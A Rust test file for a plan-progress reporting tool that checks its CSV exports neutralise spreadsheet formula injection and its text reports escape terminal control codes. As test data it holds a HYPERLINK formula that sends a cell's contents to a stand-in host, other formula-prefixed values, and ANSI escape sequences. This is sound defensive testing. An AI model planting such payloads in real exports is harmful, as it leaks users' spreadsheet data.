//! CSV outputs are safe to open in Excel: a text cell that a spreadsheet would run as a formula
//! is written as text, numbers stay numbers, and the export carries the same figures as the
//! JSON report (objective progress, capped and floored marks, nothing for a not-programmed
//! indicator).

use std::path::{Path, PathBuf};
use std::str::FromStr;

use rust_decimal::Decimal;

use crate::avance;
use avance::io::{plan_file, seed_plan};
use avance::model::{Plan, Quarter};

const HYPERLINK: &str = "=HYPERLINK(\"http://x/?\"&A1,\"click\")";

fn d(text: &str) -> Decimal {
    Decimal::from_str(text).unwrap()
}

fn q1() -> Quarter {
    Quarter::new(1).unwrap()
}

/// The seed plan with texts that spreadsheets would run as formulas, and indicator 644 at
/// −3,5 executed (a negative figure that must stay a number).
fn hostile_plan() -> Plan {
    let mut plan = seed_plan();
    let objective_2 = &mut plan.objectives[1];
    objective_2.metas[0].code = "@SUM(1+1)".into();
    let i321 = &mut objective_2.metas[0].indicators[0];
    i321.name = HYPERLINK.into();
    i321.entity = "+57 1 555".into();
    i321.unit = "-x".into();
    let mp4 = &mut objective_2.metas[1].indicators[0];
    mp4.name = "\tTabulado".into();
    mp4.entity = "\rRetorno".into();
    let i644 = &mut plan.objectives[2].metas[0].indicators[3];
    i644.year_mut(2022).executed.insert(q1(), d("-3.5"));
    plan
}

fn save(dir: &Path, plan: &Plan) -> PathBuf {
    let path = dir.join("plan.ron");
    plan_file::save(plan, &path).unwrap();
    path
}

fn export_csv(plan: &Path) -> String {
    let out = plan.with_extension("csv");
    let (code, _, stderr) = avance(&[
        "export",
        plan.to_str().unwrap(),
        "--format",
        "csv",
        "-o",
        out.to_str().unwrap(),
        "--force",
    ]);
    assert_eq!(code, 0, "{stderr}");
    std::fs::read_to_string(out).unwrap()
}

/// The CSV's rows as header → field maps.
fn records(csv_text: &str, delimiter: u8) -> Vec<Vec<(String, String)>> {
    let mut reader = csv::ReaderBuilder::new()
        .delimiter(delimiter)
        .from_reader(csv_text.as_bytes());
    let headers: Vec<String> = reader
        .headers()
        .unwrap()
        .iter()
        .map(str::to_owned)
        .collect();
    reader
        .records()
        .map(|r| {
            headers
                .iter()
                .cloned()
                .zip(r.unwrap().iter().map(str::to_owned))
                .collect()
        })
        .collect()
}

fn field<'a>(row: &'a [(String, String)], header: &str) -> &'a str {
    row.iter()
        .find(|(h, _)| h == header)
        .map(|(_, v)| v.as_str())
        .unwrap_or_else(|| panic!("no column {header:?} in {row:?}"))
}

/// No field starts as a formula unless it is a number.
fn assert_no_live_formulas(csv_text: &str, delimiter: u8) {
    for row in records(csv_text, delimiter) {
        for (header, value) in row {
            if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
                let number = value.replace(',', ".");
                assert!(
                    Decimal::from_str(&number).is_ok(),
                    "{header}: {value:?} would run as a formula"
                );
            }
        }
    }
}

#[test]
fn export_csv_writes_formula_looking_texts_as_text_and_numbers_as_numbers() {
    let dir = tempfile::tempdir().unwrap();
    let plan = save(dir.path(), &hostile_plan());
    let text = export_csv(&plan);
    assert_no_live_formulas(&text, b';');
    let rows = records(&text, b';');
    let i321 = &rows[0];
    assert_eq!(field(i321, "Nombre indicador"), format!("'{HYPERLINK}"));
    assert_eq!(field(i321, "Entidad responsable"), "'+57 1 555");
    assert_eq!(field(i321, "Unidad"), "'-x");
    assert_eq!(field(i321, "Meta"), "'@SUM(1+1)");
    let mp4 = &rows[1];
    assert_eq!(field(mp4, "Nombre indicador"), "'\tTabulado");
    assert_eq!(field(mp4, "Entidad responsable"), "'\rRetorno");
    let i644 = &rows[5];
    assert_eq!(field(i644, "Indicador sectorial"), "644");
    assert_eq!(
        field(i644, "Magnitud ejecutada al corte 31/03/2022"),
        "-3,5"
    );
    assert_eq!(
        field(i644, "Porcentaje avance al corte 31/03/2022"),
        "-3,50"
    );
}

#[test]
fn an_exported_csv_imports_back_with_the_texts_as_they_were() {
    let dir = tempfile::tempdir().unwrap();
    let plan = hostile_plan();
    let csv_path = dir.path().join("export.csv");
    std::fs::write(&csv_path, export_csv(&save(dir.path(), &plan))).unwrap();
    let back =
        avance::io::import::import_file(&csv_path, avance::io::import::BadRows::Stop).unwrap();
    let objective_2 = &back.plan.objectives[1];
    assert_eq!(objective_2.metas[0].code, "@SUM(1+1)");
    assert_eq!(objective_2.metas[0].indicators[0].name, HYPERLINK);
    assert_eq!(objective_2.metas[0].indicators[0].entity, "+57 1 555");
    // The import trims spaces and tabs around texts.
    assert_eq!(objective_2.metas[1].indicators[0].name, "Tabulado");
    assert_eq!(
        back.plan.objectives[2].metas[0].indicators[3].executed(2022, q1()),
        Some(d("-3.5"))
    );
}

#[test]
fn report_csv_writes_formula_looking_texts_as_text_in_both_languages() {
    let dir = tempfile::tempdir().unwrap();
    let plan = save(dir.path(), &hostile_plan());
    for (lang, delimiter, name, progress_644) in [
        ("es", b';', "Nombre indicador", "-3,50"),
        ("en", b',', "Indicator name", "-3.50"),
    ] {
        let (code, text, stderr) = avance(&[
            "report",
            plan.to_str().unwrap(),
            "--format",
            "csv",
            "--lang",
            lang,
        ]);
        assert_eq!(code, 0, "{stderr}");
        assert_no_live_formulas(&text, delimiter);
        let rows = records(&text, delimiter);
        assert_eq!(field(&rows[0], name), format!("'{HYPERLINK}"));
        assert_eq!(field(&rows[0], "Meta"), "'@SUM(1+1)");
        let progress = if lang == "es" { "Avance" } else { "Progress" };
        assert_eq!(field(&rows[5], progress), progress_644, "{lang}");
    }
}

#[test]
fn the_text_report_escapes_control_characters_in_names() {
    let dir = tempfile::tempdir().unwrap();
    let mut plan = seed_plan();
    plan.title = "\u{1b}[2J\u{1b}[31mPlan\u{7}".into();
    plan.objectives[1].metas[0].code = "META\nObjetivo 9: 100,00 %".into();
    let path = save(dir.path(), &plan);
    let (code, text, stderr) = avance(&["report", path.to_str().unwrap()]);
    assert_eq!(code, 0, "{stderr}");
    assert!(
        !text.contains('\u{1b}') && !text.contains('\u{7}'),
        "{text:?}"
    );
    assert!(
        text.starts_with("\\u{1b}[2J\\u{1b}[31mPlan\\u{7}\n"),
        "{text}"
    );
    assert!(text.contains("META\\nObjetivo 9"), "{text}");
    assert!(!text.lines().any(|l| l.starts_with("Objetivo 9")), "{text}");
}

#[test]
fn export_csv_carries_objective_progress_and_the_capped_and_floored_marks_of_the_json() {
    let dir = tempfile::tempdir().unwrap();
    let mut plan = seed_plan();
    // 644 at 150 of 100: counted at the cap.
    plan.objectives[2].metas[0].indicators[3]
        .year_mut(2022)
        .executed
        .insert(q1(), d("150"));
    // 465 at −1 of 1: −100 %, floored at 0 once the roll-up floors.
    plan.objectives[2].metas[0].indicators[1]
        .year_mut(2022)
        .executed
        .insert(q1(), d("-1"));
    let path = save(dir.path(), &plan);
    let text = export_csv(&path);
    let rows = records(&text, b';');
    let (_, report, _) = avance(&["report", path.to_str().unwrap(), "--format", "json"]);
    let json: serde_json::Value = serde_json::from_str(&report).unwrap();
    let indicators: Vec<&serde_json::Value> = json["objectives"]
        .as_array()
        .unwrap()
        .iter()
        .flat_map(|o| o["indicators"].as_array().unwrap())
        .collect();
    assert_eq!(rows.len(), indicators.len());
    let mark = |value: &serde_json::Value| {
        if value.as_bool().unwrap() {
            "sí"
        } else {
            "no"
        }
    };
    for (row, indicator) in rows.iter().zip(&indicators) {
        assert_eq!(
            field(row, "Cuenta al tope"),
            mark(&indicator["capped"]),
            "{row:?}"
        );
        assert_eq!(
            field(row, "Cuenta como 0"),
            mark(&indicator["floored"]),
            "{row:?}"
        );
    }
    assert_eq!(
        field(&rows[5], "Cuenta al tope"),
        "sí",
        "644 counts at the cap"
    );
    assert_eq!(
        field(&rows[0], "Avance objetivo al corte 31/03/2022"),
        "50,24"
    );
    let objective_3 = json["objectives"][2]["progress"]
        .as_str()
        .unwrap()
        .replace('.', ",");
    assert_eq!(
        field(&rows[5], "Avance objetivo al corte 31/03/2022"),
        objective_3
    );
}

#[test]
fn a_not_programmed_indicator_shows_the_same_figures_in_json_csv_and_xlsx() {
    let dir = tempfile::tempdir().unwrap();
    let mut plan = seed_plan();
    // 465: programmed 0 for 2022 (takes no part), yet an execution was typed.
    let year = plan.objectives[2].metas[0].indicators[1].year_mut(2022);
    year.programmed = Some(Decimal::ZERO);
    year.executed.insert(q1(), d("5"));
    let path = save(dir.path(), &plan);

    let (_, report, _) = avance(&["report", path.to_str().unwrap(), "--format", "json"]);
    let json: serde_json::Value = serde_json::from_str(&report).unwrap();
    let i465 = &json["objectives"][2]["indicators"][1];
    assert_eq!(i465["code"], "465");
    assert_eq!(i465["status"], "not_programmed");
    let number = |text: &str| (!text.is_empty()).then(|| d(&text.replace(',', ".")));
    let from_json = |key: &str| i465[key].as_str().map(d);
    let json_figures = [
        from_json("weight"),
        from_json("executed"),
        from_json("progress"),
    ];
    assert_eq!(json_figures, [Some(d("3")), None, None]);

    let csv_rows = records(&export_csv(&path), b';');
    let csv_465 = &csv_rows[3];
    assert_eq!(field(csv_465, "Indicador sectorial"), "465");
    let csv_figures = [
        number(field(csv_465, "Ponderación indicador")),
        number(field(csv_465, "Magnitud ejecutada al corte 31/03/2022")),
        number(field(csv_465, "Porcentaje avance al corte 31/03/2022")),
    ];
    assert_eq!(csv_figures, json_figures);
    assert_eq!(field(csv_465, "Cuenta al tope"), "");
    assert_eq!(field(csv_465, "Cuenta como 0"), "");

    let xlsx = dir.path().join("plan.xlsx");
    let (code, _, stderr) = avance(&[
        "export",
        path.to_str().unwrap(),
        "--format",
        "xlsx",
        "-o",
        xlsx.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "{stderr}");
    let tables = avance::io::table::read_tables(&xlsx).unwrap();
    let sheet = tables
        .iter()
        .find(|t| t.origin.ends_with("[Objetivo 3]"))
        .unwrap();
    let header: Vec<String> = sheet.rows[0].1.iter().map(|c| c.text()).collect();
    let row_465 = &sheet.rows[2].1;
    let cell = |name: &str| {
        let at = header.iter().position(|h| h == name).unwrap();
        number(&row_465.get(at).map(|c| c.text()).unwrap_or_default())
    };
    assert_eq!(row_465[3].text(), "465");
    let xlsx_figures = [
        cell("Ponderación indicador"),
        cell("Magnitud ejecutada al corte 31/03/2022"),
        cell("Porcentaje avance al corte 31/03/2022"),
    ];
    assert_eq!(xlsx_figures, json_figures);
}

#[test]
fn the_json_report_says_floored_beside_capped() {
    let (code, report, stderr) = avance(&[
        "report",
        concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/plans/gestion_publica_2022.ron"
        ),
        "--format",
        "json",
    ]);
    assert_eq!(code, 0, "{stderr}");
    let json: serde_json::Value = serde_json::from_str(&report).unwrap();
    let i321 = &json["objectives"][1]["indicators"][0];
    assert_eq!(i321["capped"], false);
    assert_eq!(i321["floored"], false);
}

#[test]
fn control_characters_in_codes_and_names_are_not_written_raw_and_come_back_exactly() {
    let dir = tempfile::tempdir().unwrap();
    let mut plan = seed_plan();
    let i644 = &mut plan.objectives[2].metas[0].indicators[3];
    i644.code = Some("6\u{0}44".into());
    i644.name = "Personas\u{1b}[31m con discapacidad\u{7}".into();
    let path = save(dir.path(), &plan);
    for text in [
        export_csv(&path),
        avance(&["report", path.to_str().unwrap(), "--format", "csv"]).1,
    ] {
        let raw: Vec<char> = text
            .chars()
            .filter(|c| c.is_control() && !matches!(c, '\n' | '\r' | '\t'))
            .collect();
        assert!(raw.is_empty(), "{raw:?} in {text}");
        assert!(text.contains("6_x0000_44"), "{text}");
    }
    let csv_path = dir.path().join("plan.csv");
    let back = dir.path().join("de_vuelta.ron");
    let (code, _, stderr) = avance(&[
        "import",
        csv_path.to_str().unwrap(),
        "--into",
        path.to_str().unwrap(),
        "-o",
        back.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(plan_file::load(&back).unwrap(), plan);
}

/// Excel on Windows reads a CSV without a byte-order mark as the system's code page: every
/// accent of "Ponderación" or "Secretaría" would show garbled.
#[test]
fn csv_files_start_with_a_utf8_bom_so_excel_shows_the_accents() {
    let dir = tempfile::tempdir().unwrap();
    let path = save(dir.path(), &seed_plan());
    let exported = export_csv(&path);
    let (code, report, stderr) = avance(&["report", path.to_str().unwrap(), "--format", "csv"]);
    assert_eq!(code, 0, "{stderr}");
    for text in [&exported, &report] {
        assert!(text.starts_with("\u{feff}Objetivo;"), "{:?}", &text[..20]);
        assert_eq!(text.matches('\u{feff}').count(), 1);
    }
    // The import reads it (the round trip tests check every figure; here the headers).
    let back = dir.path().join("de_vuelta.ron");
    let (code, _, stderr) = avance(&[
        "import",
        path.with_extension("csv").to_str().unwrap(),
        "--into",
        path.to_str().unwrap(),
        "-o",
        back.to_str().unwrap(),
    ]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(plan_file::load(&back).unwrap(), seed_plan());
}

/// The CSV report's Estado column says in the report's language what the figure is, as the
/// window and the text report say it, never the JSON's internal key.
#[test]
fn the_csv_reports_status_is_in_the_officers_language() {
    let dir = tempfile::tempdir().unwrap();
    let mut plan = seed_plan();
    // 465 not reported, 321 over its programming (counted at the cap).
    plan.objectives[2].metas[0].indicators[1]
        .year_mut(2022)
        .executed
        .clear();
    plan.objectives[1].metas[0].indicators[0]
        .year_mut(2022)
        .executed
        .insert(q1(), d("110"));
    let path = save(dir.path(), &plan);
    let status = |language: &str, code: &str| {
        let (exit, text, stderr) = avance(&[
            "report",
            path.to_str().unwrap(),
            "--format",
            "csv",
            "--lang",
            language,
        ]);
        assert_eq!(exit, 0, "{stderr}");
        let delimiter = if language == "es" { b';' } else { b',' };
        let (indicator, state) = match language {
            "es" => ("Indicador", "Estado"),
            _ => ("Indicator", "Status"),
        };
        let rows = records(&text, delimiter);
        let row = rows.iter().find(|r| field(r, indicator) == code).unwrap();
        field(row, state).to_owned()
    };
    assert_eq!(status("es", "644"), "con reporte");
    assert_eq!(status("es", "465"), "sin reporte (cuenta 0)");
    assert_eq!(status("es", "321"), "con reporte (cuenta 100 %)");
    assert_eq!(status("en", "644"), "reported");
    assert_eq!(status("en", "465"), "not reported (counts 0)");
    assert_eq!(status("en", "321"), "reported (counts 100%)");
}
